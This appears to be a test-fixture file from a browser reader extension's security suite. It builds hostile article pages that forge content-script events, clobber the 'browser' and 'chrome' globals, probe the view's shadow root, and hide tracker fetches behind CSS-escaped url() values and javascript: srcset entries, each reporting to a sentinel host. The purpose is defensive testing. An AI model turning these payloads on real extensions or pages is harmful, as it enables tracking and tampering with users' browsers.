// Hostile pages that attack the extension's own surfaces rather than its sanitizer (issue 16): the in-page view's
// host element and shadow root, its controls, the events the content scripts fire, the extension API's global
// name, and requests the reader would make that the page never made. Each is a realistic article (./page.ts's
// prose) plus the attack: a script of the page's own, markup in the article, or both.
//
// A script that gets anywhere calls `pwned(what)`: a request to the sentinel host (/pwned/<id>?<what>) and
// `top.__pwned = what`. A script that has made its attempts sets `window.__attempted = true` (in the page's own
// world), so that the tests check the outcome after a positive event. Tokens: {SENTINEL} the sentinel's origin,
// {ID} the page's id. The page learns the extension's id from its own address (`?ext=`), as a real page would
// from the store listing.
import { proseOf } from './page.ts';
import { VECTORS } from './vectors.ts';

export interface SurfacePage {
  id: string;
  /** What it attacks, and what the extension must do. */
  finding: string;
  /** Script of the page's own, run before the article is parsed (defines, listens). */
  script?: string;
  /** Markup inside the article, among the paragraphs Readability keeps. */
  markup?: string;
  /** After the in-page view opened: the page has tried something against it (window.__attempted). */
  attacksView?: boolean;
  /** The reader's stored settings must show in the view (the extension API is the real one). */
  settingsReachView?: boolean;
}

/** The helpers every page script gets. */
const PRELUDE = `
const pwned = (what) => { new Image().src = '{SENTINEL}/pwned/{ID}?' + encodeURIComponent(what); top.__pwned = String(what); };
const extensionId = new URLSearchParams(location.search).get('ext') || '';
/** Calls fn with each element added to <html> itself (where the in-page view's host goes). */
const onHostAdded = (fn) => new MutationObserver((records) => {
  for (const record of records) for (const node of record.addedNodes) if (node.nodeType === 1) fn(node);
}).observe(document.documentElement, { childList: true });
`;

const PLACEHOLDER = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

export const SURFACE_PAGES: readonly SurfacePage[] = [
  {
    id: 'custom-element-host',
    finding: 'the view host is a built-in element: a custom element of that name never runs for it',
    script: `
for (const name of ['clear-reader-view', 'clear-reader', 'reader-view']) {
  customElements.define(name, class extends HTMLElement {
    constructor() {
      super();
      pwned('constructor:' + name);
      try {
        const internals = this.attachInternals();
        queueMicrotask(() => internals.shadowRoot && pwned('internals:' + internals.shadowRoot.textContent.length));
      } catch {}
    }
    connectedCallback() { pwned('connected:' + name); }
  });
}
onHostAdded((el) => { if (el.localName.includes('-')) pwned('custom host ' + el.localName); });
`,
  },
  {
    id: 'custom-element-no-shadow',
    finding: 'a custom element with disabledFeatures = ["shadow"] under the view’s old name: the view still shows',
    script: `
for (const name of ['clear-reader-view', 'clear-reader', 'reader-view']) {
  customElements.define(name, class extends HTMLElement { static disabledFeatures = ['shadow']; });
}
`,
  },
  {
    id: 'shadow-root-open',
    finding: 'the view’s root is closed, and its controls act on trusted events only',
    attacksView: true,
    script: `
onHostAdded((host) => setTimeout(() => {
  const root = host.shadowRoot;
  if (root) {
    pwned('root:' + root.textContent.length);
    root.querySelector('.action-settings')?.click();
    setTimeout(() => {
      root.querySelector('.setting-theme input[value="sepia"]')?.click();
      root.querySelector('.setting-fontSize .increase')?.click();
      window.__attempted = true;
    }, 50);
  } else {
    host.click();
    document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    host.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    window.__attempted = true;
  }
}, 100));
`,
  },
  {
    id: 'forged-started-event',
    finding: 'the page neither hears the content scripts start nor closes the view by forging their event',
    attacksView: true,
    script: `
const names = ['content', 'reader-view', 'extract-page'].map((entry) => extensionId + ':' + entry + ':wxt:content-script-started');
let forging = false; // its own dispatches below are not the extension's
for (const name of names) document.addEventListener(name, () => forging || pwned('heard ' + name));
onHostAdded(() => setTimeout(() => {
  forging = true;
  for (const name of names) {
    document.dispatchEvent(new CustomEvent(name, { detail: { contentScriptName: name.split(':')[1], messageId: 'forged' } }));
  }
  forging = false;
  window.postMessage({ type: names[1], contentScriptName: 'reader-view', messageId: 'forged' }, '*');
  window.__attempted = true;
}, 100));
`,
  },
  {
    id: 'named-browser-global',
    finding: 'named elements do not pose as the extension API (<form name="browser"><input id="runtime">)',
    script: `
for (const entry of ['content', 'reader-view', 'extract-page']) {
  for (const id of ['runtime', 'id', '[object HTMLInputElement]', 'undefined']) {
    document.addEventListener(id + ':' + entry + ':wxt:content-script-started', () => pwned('heard under ' + id));
  }
}
`,
    // Its own reader settings (set by the test) must reach the view: the real storage, not the page's form.
    settingsReachView: true,
    markup: `<form name="browser"><input id="runtime" value="page-chosen"><input name="storage"></form>`,
  },
  {
    id: 'named-chrome-global',
    finding: 'a <form name="chrome"> (Chromium then installs no `chrome`): the view still reaches the real API',
    settingsReachView: true,
    markup: `<form name="chrome"><input id="runtime" value="page-chosen"><input name="storage"></form>`,
  },
  {
    id: 'lazy-tracker-images',
    finding: 'no image the page did not load: lazy placeholders stay placeholders; srcset candidates one by one',
    markup: `<figure><img src="${PLACEHOLDER}" data-src="{SENTINEL}/pwned/{ID}/data-src.gif?uid=42" alt="Lazy one" width="800" height="450"></figure>
<figure><img data-original="{SENTINEL}/pwned/{ID}/data-original.gif?uid=42" alt="Lazy two"></figure>
<figure data-src="{SENTINEL}/pwned/{ID}/figure.gif?uid=42"><figcaption>A figure with no image</figcaption></figure>
<figure><img src="${PLACEHOLDER}" data-src="/track/{ID}/same-origin.svg?uid=42" data-srcset="/track/{ID}/same-origin-2x.svg 2x" alt="Lazy three"></figure>
<figure><img src="/img/{ID}/srcset-1x.svg" srcset="/img/{ID}/srcset-1x.svg 1x, javascript:pwned('srcset') 2x, /img/{ID}/srcset-3x.svg 3x" alt="Srcset"></figure>`,
  },
  {
    id: 'css-escaped-url',
    finding: 'url() spelled with CSS escapes is still url(): no SVG filter, clip, fill, stroke, mask or marker fetch',
    // The page never renders it (its own stylesheet hides the block): only a reader would.
    markup: `<p>The plans, as drawn by the council’s engineers: <span class="stash"><svg width="200" height="100" viewBox="0 0 200 100">
<rect width="90" height="40" fill="u\\72l(/track/{ID}/fill.svg#p)" stroke="\\55 \\52 \\4c (/track/{ID}/stroke.svg#p)"></rect>
<rect y="50" width="90" height="40" filter="u\\000072l(/track/{ID}/filter.svg#f)" clip-path="u\\rl(/track/{ID}/clip.svg#c)"></rect>
<rect x="100" width="90" height="40" mask="u/**/rl(/track/{ID}/mask.svg#m)" fill="U\\52L(/track/{ID}/fill-upper.svg#p)"></rect>
<path d="M100 60 L190 90" stroke="black" marker-start="u\\72 l(/track/{ID}/marker.svg#m)" marker-end="\\75\\72\\6c(/track/{ID}/marker-end.svg#m)"></path>
</svg></span> (drawings not to scale).</p>`,
  },
];

const escapeText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The page of `surface`, for a sentinel at `sentinel`. */
export function buildSurfacePage(surface: SurfacePage, sentinel: string): string {
  const prose = proseOf(VECTORS[0]!);
  const fill = (text: string) => text.replaceAll('{SENTINEL}', sentinel).replaceAll('{ID}', surface.id);
  const [p1, p2, p3, p4, p5, p6, p7, p8] = prose.paragraphs;
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${escapeText(prose.title)}</title>
<meta name="author" content="${prose.author}">
<meta property="og:site_name" content="${prose.site}">
<style>.stash { display: none; }</style>
${surface.script ? `<script>${fill(PRELUDE + surface.script)}</script>` : ''}
</head>
<body>
<main><article>
<h1>${escapeText(prose.title)}</h1>
<p class="byline">By <span class="author">${prose.author}</span></p>
<figure><img src="/img/${surface.id}/lead.svg" alt="The river in flood" width="800" height="450"></figure>
<p>${p1}</p>
<p>${p2}</p>
<p>${p3}</p>
${surface.markup ? fill(surface.markup) : ''}
<p>${p4}</p>
<p>${p5}</p>
<p>${p6}</p>
<p>${p7}</p>
<p>${p8}</p>
</article></main>
</body>
</html>
`;
}
